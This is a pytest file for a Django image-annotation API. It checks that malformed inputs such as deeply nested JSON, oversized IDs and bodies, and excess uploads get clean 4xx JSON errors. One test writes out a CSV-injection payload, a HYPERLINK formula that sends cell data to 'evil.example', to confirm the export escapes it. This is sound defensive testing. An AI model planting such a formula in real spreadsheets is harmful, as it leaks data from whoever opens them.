"""Bad inputs that once answered 500 (or worse): each is a clear 4xx in JSON and changes nothing."""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from rest_framework.test import APIClient

from aesplatform.annotation import services as annotation_services
from aesplatform.annotation.models import Annotation, Campaign
from aesplatform.catalog.models import ImageStatus, ImportJob
from aesplatform.common.converters import MAX_ID
from aesplatform.common.parsers import nesting_depth_exceeds
from model_core.standard import OVERALL
from tests import factories

pytestmark = [pytest.mark.django_db, pytest.mark.both_databases]

TOO_BIG_IDS = (MAX_ID + 1, 2**64, 10**30)


def client_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def overall_campaign(annotator) -> Campaign:
    image = factories.ImageFactory(status=ImageStatus.APPROVED)
    return annotation_services.campaign_create(
        name="c", mode="overall", created_by=factories.curator(), image_ids=[image.id], redundancy=1,
        annotators=[annotator], state="active",
    )


def test_a_token_request_with_a_username_longer_than_any_user_is_a_400_and_logs_no_attempt(anonymous_client):
    from axes.models import AccessAttempt

    response = anonymous_client.post("/api/auth/token/", {"username": "a" * 300, "password": "x"}, format="json")
    assert response.status_code == 400 and "username" in response.json()
    huge = anonymous_client.post("/api/auth/token/", {"username": "u", "password": "p" * 5000}, format="json")
    assert huge.status_code == 400 and "password" in huge.json()
    assert AccessAttempt.objects.count() == 0


@pytest.mark.parametrize("depth", [100_000, 33])
def test_json_nested_too_deeply_is_a_400_on_any_json_endpoint(curator_client, depth):
    body = "[" * depth + "]" * depth
    for url in ("/api/campaigns/", "/api/auth/token/", "/api/imports/"):
        response = curator_client.post(url, data=body, content_type="application/json")
        assert response.status_code == 400, (url, response.content[:200])
        assert "nest" in response.json()["detail"]
    assert Campaign.objects.count() == 0 and ImportJob.objects.count() == 0


def test_the_nesting_check_counts_levels_of_lists_and_objects():
    assert not nesting_depth_exceeds({"a": [1, {"b": 2}]}, 3)
    assert nesting_depth_exceeds({"a": [1, {"b": [2]}]}, 3)


def test_a_json_body_over_the_limit_is_refused_before_parsing_with_413(curator_client, settings):
    settings.AESP_MAX_JSON_BODY_BYTES = 1000
    body = json.dumps({"name": "x" * 2000, "mode": "overall", "image_ids": [1]})
    response = curator_client.post("/api/campaigns/", data=body, content_type="application/json")
    assert response.status_code == 413 and response.json()["code"] == "request_too_large"
    assert Campaign.objects.count() == 0
    small = curator_client.post("/api/campaigns/", data=json.dumps({"name": "x"}), content_type="application/json")
    assert small.status_code == 400 and "mode" in small.json()  # under the limit it reaches validation


@pytest.mark.parametrize("big", TOO_BIG_IDS)
def test_ids_beyond_64_bits_in_paths_are_404s_in_json(big, annotator_user, curator_client):
    annotator = client_for(annotator_user)
    for client, method, url in (
        (annotator, "post", f"/api/campaigns/{big}/next-task/"),
        (annotator, "post", f"/api/assignments/{big}/submit/"),
        (annotator, "post", f"/api/assignments/{big}/skip/"),
        (annotator, "post", f"/api/assignments/{big}/flag/"),
        (annotator, "post", f"/api/assignments/{big}/restore/"),
        (curator_client, "get", f"/api/images/{big}/"),
        (curator_client, "get", f"/api/campaigns/{big}/"),
        (curator_client, "get", f"/api/models/{big}/"),
    ):
        response = getattr(client, method)(url, {}, format="json")
        assert response.status_code == 404, (url, response.status_code)
        assert response["Content-Type"].startswith("application/json") and response.json()["code"] == "not_found"
    assert Annotation.objects.count() == 0


def test_the_largest_id_still_routes_to_the_view(curator_client):
    response = curator_client.get(f"/api/campaigns/{MAX_ID}/")
    assert response.status_code == 404 and response.json() == {"detail": "No Campaign matches the given query."}


@pytest.mark.parametrize("query", [f"campaign={2**64}", f"annotator={MAX_ID + 1}", f"task={-(2**63) - 1}"])
def test_ids_beyond_64_bits_in_filters_are_400s(curator_client, query):
    response = curator_client.get(f"/api/annotations/?{query}")
    assert response.status_code == 400, response.content


def test_ids_beyond_64_bits_in_bodies_are_400s(curator_client):
    for url, body in (("/api/prescore-runs/", {"model_version": 2**64}),
                      ("/api/dataset-versions/", {"name": "x", "campaigns": [2**64]})):
        response = curator_client.post(url, body, format="json")
        assert response.status_code == 400, (url, response.content)


def test_too_many_files_in_one_upload_is_a_json_400_and_creates_no_import(curator_user, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FILES = 2
    files = [SimpleUploadedFile(f"{i}.png", b"x", content_type="image/png") for i in range(3)]
    client = Client()
    client.force_login(curator_user)
    response = client.post("/api/imports/", {"kind": "upload", "files": files, "source_name": "s"})
    assert response.status_code == 400 and response["Content-Type"].startswith("application/json")
    assert response.json()["code"] == "too_many_files"
    assert ImportJob.objects.count() == 0


def test_an_error_about_unknown_keys_names_a_few_not_all_of_them(annotator_user):
    campaign = overall_campaign(annotator_user)
    client = client_for(annotator_user)
    lease = client.post(f"/api/campaigns/{campaign.id}/next-task/", {}, format="json").json()
    scores = {f"dimension_{i}": 0.5 for i in range(200_000)}
    response = client.post(f"/api/assignments/{lease['id']}/submit/",
                           {"scores": scores, "idempotency_key": str(uuid.uuid4())}, format="json")
    assert response.status_code == 400
    assert len(response.content) < 1000 and "199990 more" in response.json()["detail"]
    assert Annotation.objects.count() == 0


def test_an_unknown_api_route_answers_json_and_a_page_route_plain_html(curator_user, settings):
    settings.DEBUG = False
    client = Client()
    client.force_login(curator_user)
    api = client.get("/api/no-such-thing/")
    assert api.status_code == 404 and api.json()["code"] == "not_found"
    page = client.get("/no-such-page/")
    assert page.status_code == 404 and page["Content-Type"].startswith("text/html")
    assert b"Traceback" not in page.content and b"URLconf" not in page.content


def test_the_annotations_csv_shows_formulas_as_text(annotator_user):
    campaign = overall_campaign(annotator_user)
    client = client_for(annotator_user)
    lease = client.post(f"/api/campaigns/{campaign.id}/next-task/", {}, format="json").json()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    response = client.post(
        f"/api/assignments/{lease['id']}/submit/",
        {"scores": {OVERALL.key: 0.5}, "idempotency_key": str(uuid.uuid4()), "ui_version": formula[:40]},
        format="json",
    )
    assert response.status_code in (200, 201), response.content
    browser = Client()
    browser.force_login(factories.curator())
    body = b"".join(browser.get(f"/campaigns/{campaign.id}/annotations.csv").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows[0]["ui_version"] == "'" + formula[:40]
    assert rows[0][OVERALL.key] == "0.5"
